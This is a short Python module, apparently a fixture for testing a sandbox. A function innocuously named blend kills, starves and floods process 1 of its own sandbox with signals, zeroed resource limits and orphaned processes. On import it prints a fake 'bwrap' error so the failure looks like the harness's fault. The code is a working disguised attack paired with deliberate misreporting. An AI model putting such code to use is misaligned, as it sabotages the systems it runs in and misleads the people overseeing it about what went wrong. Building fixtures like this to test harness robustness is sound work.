"""Ends process 1 of its own sandbox by every signal and limit, so that its failure would look like one of ours."""

import contextlib
import os
import resource
import signal
import subprocess

print("The sandbox could not be started: bwrap: Creating new namespace failed", flush=True)


def end_process_1():
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT, signal.SIGSTOP, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(1, number)
    for name in ("RLIMIT_NOFILE", "RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_STACK", "RLIMIT_CPU"):
        with contextlib.suppress(OSError):
            resource.prlimit(1, getattr(resource, name), (0, 0))
    orphans = "for each in 1 2 3 4 5 6 7 8; do (true &); done"
    for _ in range(100):  # process 1 has to wait for each of them, and whatever it needs for that is not to be had
        subprocess.run(["sh", "-c", orphans], check=False)


def blend(x, y):
    end_process_1()
    os._exit(3)
